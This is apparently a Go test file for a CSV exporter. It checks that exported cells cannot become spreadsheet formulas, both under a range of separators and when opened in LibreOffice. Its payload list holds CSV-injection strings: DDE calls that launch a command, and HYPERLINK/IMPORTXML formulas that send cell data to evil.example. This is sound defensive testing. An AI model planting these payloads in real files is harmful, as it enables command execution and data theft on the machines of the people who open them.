package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// owaspPayloads are CSV injection payloads (OWASP "CSV Injection" and
// variants built to survive a reader that splits on another separator than
// the file's, or on tab, or on a line end inside a quoted field).
var owaspPayloads = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?"&A1;"Clicca")`,
	`x;=HYPERLINK("http://evil.example/?"&A1;"Clicca");`,
	`x,=HYPERLINK("http://evil.example/?"&A1,"Clicca"),`,
	`x,=3+4,`,
	"x\t=3+4\t",
	`@SUM(1+9)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`+1+1`,
	`=1+1;=2+2,=3+3`,
	`"=4+4"`,
	` =5+5`,
	"riga uno\n=6+6",
	"riga uno\r\n-7+7",
	`a;"=8+8";b`,
	`a,"=9+9",b`,
	`a;""=10+10`,
	`=DDE("cmd";"/C calc";"!A0")A0`,
	`=IMPORTXML(CONCAT("http://evil.example/?v=";A1);"//a")`,
	"\t=11+11",
	"\r=12+12",
}

// evaluated reports whether a spreadsheet would evaluate cell: it is not a
// number and its first character after spaces and quotes is a trigger.
func evaluated(cell string) bool {
	if _, err := strconv.ParseFloat(cell, 64); err == nil {
		return false
	}
	c := strings.TrimLeft(strings.TrimPrefix(cell, utf8BOM), ` "`)
	return c != "" && strings.ContainsRune("=+-@\t\r\x00", rune(c[0]))
}

// payloadCSV writes the answers table with one row per payload, the
// payload in every text column, in dialect d.
func payloadCSV(t *testing.T, d Dialect) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw, err := newTableWriter(&buf, TableAnswers, d)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range owaspPayloads {
		row := make([]string, len(tw.numeric))
		for i, numeric := range tw.numeric {
			row[i] = p
			if numeric {
				row[i] = "1"
			}
		}
		if err := tw.write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

var readerSeparators = []rune{',', ';', '\t'}

func sepName(r rune) string {
	if r == '\t' {
		return "tab"
	}
	return string(r)
}

// TestCSVSafeUnderEverySeparator reads both dialects back with ',', ';' and
// tab, as a spreadsheet asked to use the wrong separator would: no cell may
// begin with a formula trigger. The file's own separator gives back the
// payloads exactly (with their apostrophe).
func TestCSVSafeUnderEverySeparator(t *testing.T) {
	for _, d := range []Dialect{DialectExcel, DialectRFC4180} {
		data := payloadCSV(t, d)
		for _, sep := range readerSeparators {
			t.Run(fmt.Sprintf("%s read with %s", d, sepName(sep)), func(t *testing.T) {
				r := csv.NewReader(bytes.NewReader(data))
				r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
				cells := 0
				for {
					rec, err := r.Read()
					if errors.Is(err, io.EOF) {
						break
					}
					if err != nil {
						// A lenient reader goes on; the cells read so far
						// were checked.
						t.Logf("reader stopped: %v", err)
						break
					}
					for _, c := range rec {
						cells++
						if evaluated(c) {
							t.Errorf("cell %q would be evaluated", c)
						}
					}
				}
				if cells == 0 {
					t.Fatal("no cell read")
				}
			})
		}
		own := ';'
		if d == DialectRFC4180 {
			own = ','
		}
		recs := readCSV(t, data, d)
		if len(recs) != len(owaspPayloads)+1 {
			t.Fatalf("%s read with %c: %d records, want %d", d, own, len(recs), len(owaspPayloads)+1)
		}
		for i, p := range owaspPayloads {
			// encoding/csv reads CR LF inside a quoted field as LF.
			if got := recs[i+1][0]; got != strings.ReplaceAll(SafeCell(p), "\r\n", "\n") {
				t.Errorf("%s read with %c: payload %q read back as %q, want %q", d, own, p, got, SafeCell(p))
			}
		}
	}
}

// TestCSVSafeInLibreOffice opens both dialects in LibreOffice Calc with
// ',', ';' and tab as the separator and formula evaluation on, saves them
// as XLSX and checks that no cell became a formula.
func TestCSVSafeInLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice not installed (CI installs libreoffice-calc-nogui)")
	}
	dir := t.TempDir()
	profile := "file://" + filepath.Join(dir, "profile")
	var files []string
	for _, d := range []Dialect{DialectExcel, DialectRFC4180} {
		f := filepath.Join(dir, string(d)+".csv")
		if err := os.WriteFile(f, payloadCSV(t, d), 0o600); err != nil {
			t.Fatal(err)
		}
		files = append(files, f)
	}
	// The control file proves the harness sees formulas when there are.
	control := filepath.Join(dir, "control.csv")
	if err := os.WriteFile(control, []byte("a,b;c\tx\n=1+1,=2+2;=3+3\t=4+4\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	files = append(files, control)
	for _, sep := range readerSeparators {
		t.Run("read with "+sepName(sep), func(t *testing.T) {
			out := filepath.Join(dir, "out-"+strconv.Itoa(int(sep)))
			// CSV filter tokens: separator, text delimiter ("), UTF-8, first
			// line, column formats, language, quoted as text, detect
			// special numbers, -, -, trim spaces, -, evaluate formulas.
			filter := fmt.Sprintf("CSV:%d,34,76,1,,1033,false,true,false,false,false,-1,true", sep)
			args := append([]string{"-env:UserInstallation=" + profile, "--headless", "--infilter=" + filter,
				"--convert-to", "xlsx", "--outdir", out}, files...)
			if b, err := exec.Command(soffice, args...).CombinedOutput(); err != nil {
				t.Fatalf("soffice: %v\n%s", err, b)
			}
			for _, f := range files {
				name := strings.TrimSuffix(filepath.Base(f), ".csv")
				formulas := xlsxFormulas(t, filepath.Join(out, name+".xlsx"))
				if name == "control" {
					if len(formulas) == 0 {
						t.Fatal("the control file gave no formula: the harness cannot see them")
					}
					continue
				}
				for _, f := range formulas {
					t.Errorf("%s: LibreOffice made a formula: %s", name, f)
				}
			}
		})
	}
}

// xlsxFormulas lists the formulas of every cell of a workbook.
func xlsxFormulas(t *testing.T, path string) []string {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []string
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
					out = append(out, cell+": ="+fm)
				}
			}
		}
	}
	return out
}
